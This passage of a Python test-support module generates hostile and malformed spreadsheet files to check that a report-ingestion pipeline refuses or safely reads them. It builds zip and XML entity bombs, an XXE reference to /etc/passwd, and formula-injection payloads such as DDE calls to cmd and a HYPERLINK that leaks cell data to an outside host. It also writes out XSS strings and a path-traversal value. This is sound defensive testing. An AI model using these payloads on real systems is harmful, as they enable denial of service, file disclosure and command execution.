"""Hostile and broken files, generated: the bad-input suite's catalogue (tests/test_hostile.py) and
the soak run's (bench/soak.py).

Each `Kind` turns a good filled workbook (`source`, one union's own) into one bad file at `target`
(or beside it, when the trick is in the file's name) and says what a run must make of it: refuse it
with one of `codes`, or read it, with the given codes among its findings. Whatever the kind, the run
must finish, give the file exactly one result, and write nothing dangerous to open (checked by the
tests on every output). The kinds follow `../shared/spec/bad-inputs.md`, and go past it.

The small builders (`package`, `sheet_xml`, `cell`, `cfb`, `biff`) make packages from scratch.
"""

from __future__ import annotations

import random
import re
import struct
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl

from pipeline.findings import Code
from pipeline.form import Form, load_form
from pipeline.results import Status
from pipeline.sheets import sheet_parts
from pipeline.template import INITIATIVE_HEADER_ROW, UNIT_FIRST_ROW, UNIT_VALUE_COL

REFUSED = frozenset({Status.REJECTED})
READ = frozenset({Status.ACCEPTED, Status.ACCEPTED_WITH_WARNINGS, Status.REJECTED})
ACCEPTED = frozenset({Status.ACCEPTED, Status.ACCEPTED_WITH_WARNINGS})


@dataclass(frozen=True)
class Kind:
    name: str
    build: Callable[[Path, Path], Path]  # (good source, suggested target) -> the file written
    statuses: frozenset[Status]
    codes: frozenset[Code] = frozenset()  # one of these must be among the file's findings
    what: str = ""


# --- packages from scratch -----------------------------------------------------------------------

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)


def sheet_xml(body: str, dimension: str | None = None) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def cell(ref: str, text: str = "x") -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def package(path: Path, sheet: str | bytes, extra: dict[str, str | bytes] | None = None) -> Path:
    """A minimal .xlsx: one sheet "S" holding `sheet`, plus `extra` parts (which may replace any)."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet,
        **(extra or {}),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def as_sheet(form: Form) -> dict[str, str | bytes]:
    """The `extra` of `package` that names its sheet as the form's unit sheet: the reader loads it
    (it does not load sheets the form does not have)."""
    return {"xl/workbook.xml": WORKBOOK.replace('name="S"', f'name="{form.sheets["unit"]}"')}


_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def cfb(streams: dict[str, bytes], loop: bool = False) -> bytes:
    """A version 3 compound file: sector 0 the FAT, 1 the directory, then each stream (>= 4096 bytes)."""
    fat = [_FATSECT, _END]
    entries = [("Root Entry", 5, _END, 0)]
    body = b""
    for name, data in streams.items():
        assert len(data) >= 4096  # kept out of the mini stream
        data = data.ljust(-(-len(data) // 512) * 512, b"\0")
        first, count = len(fat), len(data) // 512
        fat += [*range(first + 1, first + count), _END]
        entries.append((name, 2, first, len(data)))
        body += data
    if loop:
        fat[1] = 1  # the directory chain points to itself
    directory = b""
    for name, kind, start, size in entries:
        raw = name.encode("utf-16-le") + b"\0\0"
        entry = raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), kind, 1, _FREE, _FREE, _FREE)
        directory += entry.ljust(116, b"\0") + struct.pack("<IQ", start, size)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16  # signature, CLSID
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6  # versions, byte order, shifts
    # directory sectors (0 in version 3), FAT sectors, first directory sector, transaction, mini
    # stream cutoff, first mini FAT sector, mini FAT sectors, first DIFAT sector, DIFAT sectors
    header += struct.pack("<9I", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
    header += struct.pack("<109I", 0, *[_FREE] * 108)  # the FAT is sector 0
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return header + fat_sector + directory.ljust(512, b"\0") + body


def biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records)


BOF = (0x0809, struct.pack("<HH", 0x0600, 0x0005) + b"\0" * 12)
FILLER = (0x00FC, b"\0" * 4500)  # any record, to make the stream long
EOF_RECORD = (0x000A, b"")
FILEPASS = (0x002F, b"\0\0" + b"\0" * 52)


# --- changing a good workbook ----------------------------------------------------------------------


def rezip(
    source: Path,
    target: Path,
    change: Callable[[str, bytes], bytes | None] = lambda _name, data: data,
    add: dict[str, bytes | str] | None = None,
) -> Path:
    """`source`'s members through `change` (None drops a member), plus `add`, into `target`."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = change(info.filename, src.read(info))
            if data is not None:
                dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return target


def sheet_part(source: Path, sheet: str) -> str:
    """The package part of the sheet called `sheet`."""
    with zipfile.ZipFile(source) as zf:
        return sheet_parts(zf)[sheet]


def edit_cells(source: Path, target: Path, edit: Callable[[Any, Form], None]) -> Path:
    """The workbook as openpyxl saves it after `edit(workbook, form)`."""
    wb = openpyxl.load_workbook(source)
    edit(wb, _FORM)
    wb.save(target)
    return target


def _in_sheet(source: Path, target: Path, sheet: str, change: Callable[[str], str]) -> Path:
    part = sheet_part(source, sheet)
    return rezip(source, target, lambda n, d: change(d.decode("utf-8")).encode("utf-8") if n == part else d)


def _initiative_cell(field: str, row: int = 0) -> tuple[int, int]:
    """(Excel row, column) of an initiative field in the template, `row` 0 the first record."""
    keys = [f.key for f in _FORM.initiative]
    return INITIATIVE_HEADER_ROW + 1 + row, keys.index(field) + 1


def _unit_cell(field: str) -> tuple[int, int]:
    keys = [f.key for f in _FORM.unit]
    return UNIT_FIRST_ROW + keys.index(field), UNIT_VALUE_COL + 1


_FORM = load_form()
_INITIATIVES = _FORM.sheets["initiatives"]
_UNIT = _FORM.sheets["unit"]
TEXT_FIELDS = [f.key for f in _FORM.initiative if f.type == "text"]


def _set_text(wb: Any, sheet: str, at: tuple[int, int], value: Any) -> None:
    target = wb[sheet].cell(*at)
    target.value = value
    if isinstance(value, str) and value.startswith("="):
        target.data_type = "s"  # text that looks like a formula, as pasted


def _every_text(payloads: list[str]) -> Callable[[Any, Form], None]:
    def edit(wb: Any, _form: Form) -> None:
        for i, key in enumerate(TEXT_FIELDS):
            _set_text(wb, _INITIATIVES, _initiative_cell(key), payloads[i % len(payloads)])
        for key in ("ten_cdcs", "chu_tich", "nguoi_lap"):
            _set_text(wb, _UNIT, _unit_cell(key), payloads[len(key) % len(payloads)])

    return edit


def _title(text: str) -> Callable[[Any, Form], None]:
    return lambda wb, _f: _set_text(wb, _INITIATIVES, _initiative_cell("ten_sang_kien"), text)


# --- the builders ----------------------------------------------------------------------------------


def _bytes(data: bytes, suffix: str = ".xlsx") -> Callable[[Path, Path], Path]:
    def build(_source: Path, target: Path) -> Path:
        out = target.with_suffix(suffix)
        out.write_bytes(data)
        return out

    return build


def _renamed(name: str) -> Callable[[Path, Path], Path]:
    """The good workbook under a tricky file name."""

    def build(source: Path, target: Path) -> Path:
        out = target.with_name(name)
        out.write_bytes(source.read_bytes())
        return out

    return build


def _truncated(fraction: float) -> Callable[[Path, Path], Path]:
    def build(source: Path, target: Path) -> Path:
        data = source.read_bytes()
        target.write_bytes(data[: max(1, int(len(data) * fraction))])
        return target

    return build


def _bit_flipped(source: Path, target: Path) -> Path:
    """Bytes flipped inside the largest compressed member: its CRC no longer matches."""
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as zf:
        info = max(zf.infolist(), key=lambda i: i.compress_size)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    rng = random.Random(7)
    for _ in range(8):
        data[start + rng.randrange(info.compress_size)] ^= 0xFF
    target.write_bytes(bytes(data))
    return target


def _deflate_bomb(source: Path, target: Path) -> Path:
    """A 300 MB run of one byte compressed to a few hundred KB, as a part of the good workbook."""
    rezip(source, target)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("xl/media/image1.bin", "w") as out:
        block = b"\0" * (1 << 20)
        for _ in range(300):
            out.write(block)
    return target


def _ratio_bomb(source: Path, target: Path) -> Path:
    """Within the size limit, but 20 MB of text compressed a thousand times."""
    strings = "<sst>" + "<si><t>" + "A" * (20 << 20) + "</t></si></sst>"
    return rezip(source, target, add={"xl/media/strings.xml": strings})


def _many_entries(source: Path, target: Path) -> Path:
    return rezip(source, target, add={f"customXml/item{i}.xml": "<a/>" for i in range(3000)})


def _billion_laughs(source: Path, target: Path) -> Path:
    lol = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    bomb = f'<?xml version="1.0"?>{lol}]><sst><si><t>&lol9;</t></si></sst>'
    return rezip(source, target, lambda n, d: bomb.encode() if n == "xl/sharedStrings.xml" else d,
                 add={} if _has(source, "xl/sharedStrings.xml") else {"xl/sharedStrings.xml": bomb})  # fmt: skip


def _has(source: Path, name: str) -> bool:
    with zipfile.ZipFile(source) as zf:
        return name in zf.namelist()


def _with_prolog(text: str, encoding: str, doctype: str = "") -> str:
    """The part's text with its XML declaration (added when the writer left it out, as openpyxl
    does for sheets) naming `encoding`, followed by `doctype`."""
    body = re.sub(r"^\s*<\?xml[^>]*\?>", "", text)
    return f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?>{doctype}{body}'


def _xxe(source: Path, target: Path) -> Path:
    doctype = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def change(name: str, data: bytes) -> bytes:
        return _with_prolog(data.decode(), "UTF-8", doctype).encode() if name == "xl/workbook.xml" else data

    return rezip(source, target, change)


def _utf16_doctype(source: Path, target: Path) -> Path:
    """A sheet in UTF-16 with a DOCTYPE: a byte search for "<!DOCTYPE" in UTF-8 would miss it."""
    part = sheet_part(source, _INITIATIVES)
    doctype = '<!DOCTYPE worksheet [<!ENTITY a "b">]>'

    def change(name: str, data: bytes) -> bytes:
        return _with_prolog(data.decode(), "UTF-16", doctype).encode("utf-16") if name == part else data

    return rezip(source, target, change)


def _utf7(source: Path, target: Path) -> Path:
    part = sheet_part(source, _INITIATIVES)
    return rezip(source, target, lambda n, d: _with_prolog(d.decode(), "UTF-7").encode() if n == part else d)


def _cell_at(ref: str) -> Callable[[Path, Path], Path]:
    """One more cell, at `ref`, in the initiatives sheet (a row of its own at the end)."""

    def build(source: Path, target: Path) -> Path:
        row = re.sub(r"[A-Z]+", "", ref)
        extra = f'<row r="{row}">{cell(ref)}</row></sheetData>'
        return _in_sheet(source, target, _INITIATIVES, lambda x: x.replace("</sheetData>", extra, 1))

    return build


def _many_sheets(source: Path, target: Path) -> Path:
    wb = openpyxl.load_workbook(source)
    for i in range(300):
        wb.create_sheet(f"Trang {i}")
    wb.save(target)
    return target


def _drop(member: str) -> Callable[[Path, Path], Path]:
    return lambda source, target: rezip(source, target, lambda n, d: None if n == member else d)


def _duplicate_entry(source: Path, target: Path) -> Path:
    part = sheet_part(source, _INITIATIVES)
    rezip(source, target)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "a") as dst:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name": the point
            dst.writestr(part, src.read(part).replace(b"<sheetData>", b"<sheetData><row r='1'/>"))
    return target


def _ods_repeat_bomb(_source: Path, target: Path) -> Path:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="Sáng kiến"><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    out = target.with_suffix(".ods")
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        zf.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>',
        )
    return out


def _too_big(source: Path, target: Path) -> Path:
    """Over the 20 MB size limit: a picture of random bytes, stored."""
    rezip(source, target)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_STORED) as zf:
        zf.writestr("xl/media/image1.png", random.Random(1).randbytes(21 << 20))
    return target


def _xlsb(_source: Path, target: Path) -> Path:
    out = target.with_suffix(".xlsb")
    ct = _CT.replace("/xl/workbook.xml", "/xl/workbook.bin").replace("sheet.main+xml", "sheet.binary.macroEnabled.main")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", _RELS.replace("workbook.xml", "workbook.bin"))
        zf.writestr("xl/workbook.bin", b"\x83\x01\x00" * 100)
    return out


def _docx(_source: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        zf.writestr("word/document.xml", "<w:document/>")
    return target


def _random_zip(_source: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as zf:
        zf.writestr("ghi-chu.txt", "Báo cáo gửi sau")
    return target


def _macro_enabled(source: Path, target: Path) -> Path:
    out = target.with_suffix(".xlsm")

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            text = data.decode("utf-8").replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            text = text.replace(
                "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            )
            return text.encode("utf-8")
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                b'vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        return data

    return rezip(source, out, change, add={"xl/vbaProject.bin": cfb({"VBA/dir": b"Attribute VB_Name" * 300})})


def _then(first: Callable[[Path, Path], Path], second: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
    """Both changes: `second` made to what `first` wrote."""

    def build(source: Path, target: Path) -> Path:
        middle = first(source, target.with_name(f"{target.stem} (1){target.suffix}"))
        out = second(middle, target)
        middle.unlink()
        return out

    return build


def _external_link(source: Path, target: Path) -> Path:
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLinkPath" Target="file:///C:/Windows/win.ini" TargetMode="External"/></Relationships>'
    )

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
            )
        return data

    add = {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels}
    return rezip(source, target, change, add)


def _lying_dimension(source: Path, target: Path) -> Path:
    lie = '<dimension ref="A1:XFD1048576"/>'
    return _in_sheet(source, target, _INITIATIVES, lambda x: re.sub(r'<dimension ref="[^"]*"/>', lie, x))


def _protected(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        for ws in wb.worksheets:
            ws.protection.sheet = True
            ws.protection.password = "1234"
        wb.security = openpyxl.workbook.protection.WorkbookProtection(workbookPassword="1234", lockStructure=True)

    return edit_cells(source, target, edit)


def _hidden_sheet(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        wb[_INITIATIVES].sheet_state = "hidden"
        wb.active = wb.sheetnames.index(_UNIT)

    return edit_cells(source, target, edit)


def _renamed_sheet(source: Path, target: Path) -> Path:
    return edit_cells(source, target, lambda wb, _f: setattr(wb[_INITIATIVES], "title", "Sheet2"))


def _no_header(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        for c in range(1, len(_FORM.initiative) + 1):
            wb[_INITIATIVES].cell(INITIATIVE_HEADER_ROW, c).value = None

    return edit_cells(source, target, edit)


def _no_rows(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        ws = wb[_INITIATIVES]
        for row in ws.iter_rows(min_row=INITIATIVE_HEADER_ROW + 1):
            for c in row:
                c.value = None

    return edit_cells(source, target, edit)


def _error_cells(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        ws = wb[_INITIATIVES]
        ws.cell(*_initiative_cell("gia_tri_lam_loi")).value = "#DIV/0!"  # openpyxl writes an error cell
        ws.cell(*_initiative_cell("ngay_ap_dung")).value = "#REF!"
        wb[_UNIT].cell(*_unit_cell("tong_doan_vien")).value = "#N/A"

    return edit_cells(source, target, edit)


def _formula_without_value(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        wb[_INITIATIVES].cell(*_initiative_cell("gia_tri_lam_loi")).value = "=SUM(1000000,500000)"
        wb[_UNIT].cell(*_unit_cell("so_tin_bai")).value = "=1+2"

    return edit_cells(source, target, edit)


def _replace_cell(field: str, content: str, kind: str = "") -> Callable[[Path, Path], Path]:
    """The first record's `field` cell rewritten in the sheet's XML as `<c ...>content</c>`: for
    what openpyxl will not write (control characters, text past Excel's 32,767 characters)."""

    def build(source: Path, target: Path) -> Path:
        row, column = _col_row(field)
        ref = f"{column}{row}"
        kind_attr = f' t="{kind}"' if kind else ""

        def change(text: str) -> str:
            pattern = rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'
            new, count = re.subn(pattern, lambda _m: f'<c r="{ref}"{kind_attr}>{content}</c>', text, count=1)
            assert count == 1, ref
            return new

        return _in_sheet(source, target, _INITIATIVES, change)

    return build


def _inline(text: str) -> str:
    return '<is><t xml:space="preserve">' + text.replace("&", "&amp;").replace("<", "&lt;") + "</t></is>"


def _two_digit_year(source: Path, target: Path) -> Path:
    at = _initiative_cell("ngay_ap_dung")
    return edit_cells(source, target, lambda wb, _f: _set_text(wb, _INITIATIVES, at, "1/2/22"))


def _far_dates(source: Path, target: Path) -> Path:
    """A number typed into a date cell (read as a day in the year 6046) and a text date as far."""

    def edit(wb: Any, _form: Form) -> None:
        wb[_INITIATIVES].cell(*_initiative_cell("ngay_ap_dung")).value = 1_500_000
        _set_text(wb, _INITIATIVES, _initiative_cell("ngay_dang_ky"), "15/03/6046")

    return edit_cells(source, target, edit)


def _path_in_code(source: Path, target: Path) -> Path:
    def edit(wb: Any, _form: Form) -> None:
        _set_text(wb, _UNIT, _unit_cell("ma_cdcs"), "../../../../etc/passwd")
        _set_text(wb, _UNIT, _unit_cell("ten_cdcs"), "CON")

    return edit_cells(source, target, edit)


def _col_row(field: str) -> tuple[int, str]:
    from pipeline.sheets import column_letter

    row, col = _initiative_cell(field)
    return row, column_letter(col - 1)


FORMULA_PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3 sáng kiến tiết kiệm",
    "@SUM(1) cải tiến quy trình",
    "\t=1+1 cải tiến",
    "\r=2+2 cải tiến",
    "=1+1",
    'DDE("cmd";"/C calc";"!A0")',
]
SCRIPT_PAYLOADS = [
    "<script>alert('sáng kiến')</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="jav&#9;ascript:alert(1)">Cải tiến</a>',
    "{{ 7*7 }} {% raw %} ${7*7}",
]
# Excel's escapes of control characters (as Excel writes them), and invisible characters.
CONTROL_TEXT = "Cải_x0000_ tiến_x000B_ quy_x001F_ trình_x0007_ _x000D_ làm\u200b việc\ufeff một cửa"
ODD_UNICODE = "Sáng kiến 🍣 تحسين إجراءات العمل \U0001f600 đầu tiên"
NFD_TEXT = unicodedata.normalize("NFD", "Cải tiến quy trình tiếp nhận hồ sơ một cửa")
TCVN3_TEXT = "C¶i tiÕn quy tr×nh tiÕp nhËn hå s¬"
NA_TEXT = ["N/A", "null", "None", "nan", "#N/A", "NA"]
LONG_NFD_NAME = unicodedata.normalize("NFD", "Báo cáo sáng kiến của công đoàn cơ sở trường tiểu học ") * 3


def _ends_name(stem: str, suffix: str = ".xlsx") -> str:
    """A file name of at most 250 bytes (the file system's limit is 255)."""
    while len((stem + suffix).encode("utf-8")) > 250:
        stem = stem[:-1]
    return stem + suffix


_DATE = frozenset({Code.TWO_DIGIT_YEAR})

KINDS: list[Kind] = [
    # Not a spreadsheet at all, or nothing in it
    Kind("empty", _bytes(b""), REFUSED, frozenset({Code.EMPTY_FILE}), "0 bytes"),
    Kind(
        "pdf",
        _bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n" * 20),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "a PDF named .xlsx",
    ),
    Kind(
        "html",
        _bytes(b"<html><body><table><tr><td>1</td></tr></table></body></html>", ".xls"),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "an HTML table named .xls",
    ),
    Kind(
        "jpeg",
        _bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 2000),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "a photo of the form",
    ),
    Kind(
        "text",
        _bytes("Báo cáo sáng kiến gửi kèm email".encode()),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "plain text",
    ),
    Kind(
        "csv",
        _bytes("STT,Tên sáng kiến\n1,Cải tiến\n".encode()),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "a CSV named .xlsx",
    ),
    Kind("docx", _docx, REFUSED, frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}), "a Word file"),
    Kind("zip", _random_zip, REFUSED, frozenset({Code.NOT_SPREADSHEET, Code.CORRUPT_FILE}), "a zip of a text file"),
    Kind(
        "nul-bytes",
        _bytes(b"\0" * 4096),
        REFUSED,
        frozenset({Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT, Code.EMPTY_FILE}),
        "4 KB of zero bytes",
    ),
    # Bombs and limits
    Kind("deflate-bomb", _deflate_bomb, REFUSED, frozenset({Code.TOO_LARGE}), "300 MB in 300 KB"),
    Kind("ratio-bomb", _ratio_bomb, REFUSED, frozenset({Code.TOO_LARGE}), "20 MB compressed 1000 times"),
    Kind("many-entries", _many_entries, REFUSED, frozenset({Code.TOO_LARGE}), "3,000 zip entries"),
    Kind("too-big", _too_big, REFUSED, frozenset({Code.TOO_LARGE}), "21 MB file"),
    Kind("billion-laughs", _billion_laughs, REFUSED, frozenset({Code.FORBIDDEN_XML}), "XML entity bomb"),
    Kind("xxe", _xxe, REFUSED, frozenset({Code.FORBIDDEN_XML}), "external entity"),
    Kind("utf16-doctype", _utf16_doctype, REFUSED, frozenset({Code.FORBIDDEN_XML}), "DOCTYPE in UTF-16"),
    Kind("utf7", _utf7, REFUSED, frozenset({Code.FORBIDDEN_XML}), "a sheet declared UTF-7"),
    Kind("far-cell", _cell_at("XFD1048576"), REFUSED, frozenset({Code.GRID_TOO_LARGE}), "a cell at XFD1048576"),
    Kind("tall-sheet", _cell_at("A1048576"), REFUSED, frozenset({Code.GRID_TOO_LARGE}), "a cell in the last row"),
    Kind(
        "beyond-grid",
        _cell_at("A999999999"),
        REFUSED,
        frozenset({Code.GRID_TOO_LARGE, Code.CORRUPT_FILE}),
        "a row beyond Excel's grid",
    ),
    Kind("ods-repeat-bomb", _ods_repeat_bomb, REFUSED, frozenset({Code.GRID_TOO_LARGE}), "17 billion ODS cells"),
    Kind("many-sheets", _many_sheets, REFUSED, frozenset({Code.TOO_LARGE, Code.GRID_TOO_LARGE}), "300 sheets"),
    # Broken
    Kind("truncated-half", _truncated(0.5), REFUSED, frozenset({Code.CORRUPT_FILE}), "cut at 50%"),
    Kind(
        "truncated-head",
        _truncated(0.01),
        REFUSED,
        frozenset({Code.CORRUPT_FILE, Code.NOT_SPREADSHEET}),
        "the first 1%",
    ),
    Kind("bit-flipped", _bit_flipped, REFUSED, frozenset({Code.CORRUPT_FILE}), "bytes flipped, CRC wrong"),
    Kind(
        "no-workbook-part",
        _drop("xl/workbook.xml"),
        REFUSED,
        frozenset({Code.CORRUPT_FILE, Code.NOT_SPREADSHEET, Code.UNSUPPORTED_FORMAT}),
        "xl/workbook.xml missing",
    ),
    Kind("duplicate-entry", _duplicate_entry, REFUSED, frozenset({Code.CORRUPT_FILE}), "a part twice"),
    Kind(
        "cfb-loop",
        _bytes(cfb({"Workbook": biff(BOF, FILLER)}, loop=True), ".xls"),
        REFUSED,
        frozenset({Code.CORRUPT_FILE}),
        "an .xls container that loops",
    ),
    # Locked or unsupported
    Kind(
        "encrypted-xlsx",
        _bytes(cfb({"EncryptionInfo": b"\4\0\4\0" * 1024, "EncryptedPackage": b"\0" * 4096})),
        REFUSED,
        frozenset({Code.PASSWORD_PROTECTED}),
        "an encrypted workbook",
    ),
    Kind(
        "encrypted-xls",
        _bytes(cfb({"Workbook": biff(BOF, FILEPASS, FILLER, EOF_RECORD)}), ".xls"),
        REFUSED,
        frozenset({Code.PASSWORD_PROTECTED}),
        "an .xls with a password",
    ),
    Kind("xlsb", _xlsb, REFUSED, frozenset({Code.UNSUPPORTED_FORMAT}), "a binary workbook"),
    # Read, with the right findings
    Kind("macro-enabled", _macro_enabled, ACCEPTED, frozenset(), "an .xlsm with a VBA project"),
    Kind("external-link", _external_link, ACCEPTED, frozenset(), "a link to another workbook"),
    # ... and with a mistake, so that the union gets a marked-up copy: plain .xlsx, nothing active
    Kind(
        "macro-and-mistake",
        _then(_two_digit_year, _macro_enabled),
        REFUSED,
        frozenset({Code.TWO_DIGIT_YEAR}),
        "an .xlsm with a VBA project and a wrong date",
    ),
    Kind(
        "link-and-mistake",
        _then(_two_digit_year, _external_link),
        REFUSED,
        frozenset({Code.TWO_DIGIT_YEAR}),
        "a link to another workbook and a wrong date",
    ),
    Kind("lying-dimension", _lying_dimension, ACCEPTED, frozenset(), "<dimension> says A1:XFD1048576"),
    Kind("protected", _protected, ACCEPTED, frozenset(), "sheet and workbook protection"),
